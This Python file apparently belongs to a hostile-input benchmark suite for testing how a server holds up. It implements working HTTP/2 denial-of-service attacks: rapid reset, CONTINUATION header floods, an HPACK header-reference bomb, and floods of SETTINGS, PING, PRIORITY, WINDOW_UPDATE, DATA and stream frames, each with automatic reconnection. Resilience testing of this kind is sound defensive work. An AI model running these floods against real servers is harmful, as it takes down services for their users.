"""Floods of HTTP/2 frames that cost the server more than the attacker."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator

from benchmarks.hostile.attack import Scene, attack
from benchmarks.hostile.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    grpc_headers,
    header,
    setting,
)

SECONDS = 10
CANCEL = (8).to_bytes(4, "big")


def flood(
    scene: Scene, blocks: Callable[[], Iterator[bytes]], connections: int = 4, reads: bool = True
) -> None:
    """Send blocks of frames as fast as possible; a closed connection is opened again, for a while."""

    async def one() -> None:
        connection: Connection | None = None
        for block in blocks():
            try:
                if connection is None or connection.closed:
                    connection = await Connection.open(scene, reads=reads)
                await connection.write(block)
            except OSError as error:
                scene.got[f"while sending: {type(error).__name__}"] += 1
                connection = None
                await asyncio.sleep(0.01)
            # A drained writer does not give way, and what the server says must be read.
            await asyncio.sleep(0)
        if connection:
            # For the server's last words.
            await asyncio.sleep(0.5)
            connection.close()

    async def run() -> None:
        try:
            async with asyncio.timeout(scene.seconds(SECONDS)):
                await asyncio.gather(*(one() for _ in range(connections)))
        except TimeoutError:
            scene.got["cut off"] += 1

    asyncio.run(run())


def resets(number: int) -> Iterator[bytes]:
    """Requests that are taken back at once, in blocks of 500."""
    headers = grpc_headers()
    for start in range(0, number, 500):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RESET, 0, stream, CANCEL)
            for stream in range(2 * start + 1, 2 * start + 1001, 2)
        )


@attack("rapid-reset", "200,000 requests taken back at once, on 4 connections")
def rapid_reset(scene: Scene) -> None:
    """Streams that cost no answer, and so are not limited by their number."""
    each = scene.count(200_000) // 4
    flood(scene, lambda: resets(each))


@attack("rapid-reset-unread", "the same, without reading what the server says")
def rapid_reset_unread(scene: Scene) -> None:
    """What the server says waits in its memory."""
    each = scene.count(200_000) // 4
    flood(scene, lambda: resets(each), reads=False)


def again(data: bytes, times: int, size: int) -> Iterator[bytes]:
    """Frames in blocks of about 64 KB, `size` bytes in all."""
    block = data * times
    for _ in range(size // len(block)):
        yield block


@attack("continuation", "a header block that goes on in CONTINUATION frames, up to 300 MB")
def continuation(scene: Scene) -> None:
    """Headers that are collected until their end comes."""

    def blocks() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, grpc_headers())
        yield from again(frame(CONTINUATION, 0, 1, header("a", "b" * 16_000)), 4, scene.count(300_000_000))

    flood(scene, blocks, 1)


@attack("continuation-empty", "the same with empty CONTINUATION frames, up to 30 MB")
def continuation_empty(scene: Scene) -> None:
    """Frames that no limit of size stops."""

    def blocks() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, grpc_headers())
        yield from again(frame(CONTINUATION, 0, 1), 7_000, scene.count(30_000_000))

    flood(scene, blocks, 1)


@attack("header-references", "one large header, and 16,000 references of one byte to it, in 200 requests")
def header_references(scene: Scene) -> None:
    """The header compression's own bomb."""
    # Literal with indexing; the newest entry of the table is number 62.
    entry = b"\x40" + header("a", "b" * 3_900)[1:]

    def blocks() -> Iterator[bytes]:
        for stream in range(1, 2 * scene.count(200), 2):
            start = grpc_headers() + entry
            yield frame(HEADERS, END_HEADERS, stream, start + b"\xbe" * (16_000 - len(start)))

    flood(scene, blocks, 1)


FLOODS = {
    "settings": ("SETTINGS frames", frame(SETTINGS, payload=setting(4, 65_535)), 4_000),
    "ping": ("PING frames", frame(PING, payload=b"8 bytes."), 4_000),
    "priority": ("PRIORITY frames", frame(PRIORITY, 0, 1, b"\0\0\0\0\1"), 4_000),
    "window-zero": ("WINDOW_UPDATE frames of 0", frame(WINDOW_UPDATE, 0, 0, bytes(4)), 4_000),
    "window-one": ("WINDOW_UPDATE frames of 1", frame(WINDOW_UPDATE, 0, 0, bytes([0, 0, 0, 1])), 4_000),
    "greeting": ("prefaces", PREFACE, 2_500),
}
for name, (text, data, times) in FLOODS.items():

    @attack(f"flood-{name}", f"{text}, 60 MB on 4 connections, answers not read")
    def flood_of(scene: Scene, data: bytes = data, times: int = times) -> None:
        """Frames that ask for an answer or for work."""
        flood(scene, lambda: again(data, times, scene.count(60_000_000) // 4), reads=False)


@attack("flood-data", "empty DATA frames on one stream, 30 MB")
def flood_data(scene: Scene) -> None:
    """A message that never grows."""

    def blocks() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, grpc_headers())
        yield from again(frame(DATA, 0, 1), 7_000, scene.count(30_000_000))

    flood(scene, blocks, 1)


@attack("flood-streams", "100,000 requests begun and left, on 4 connections")
def flood_streams(scene: Scene) -> None:
    """Streams that wait for their message."""
    headers = grpc_headers()
    each = scene.count(100_000) // 4

    def blocks() -> Iterator[bytes]:
        for start in range(0, each, 500):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers)
                for stream in range(2 * start + 1, 2 * start + 1001, 2)
            )

    flood(scene, blocks)
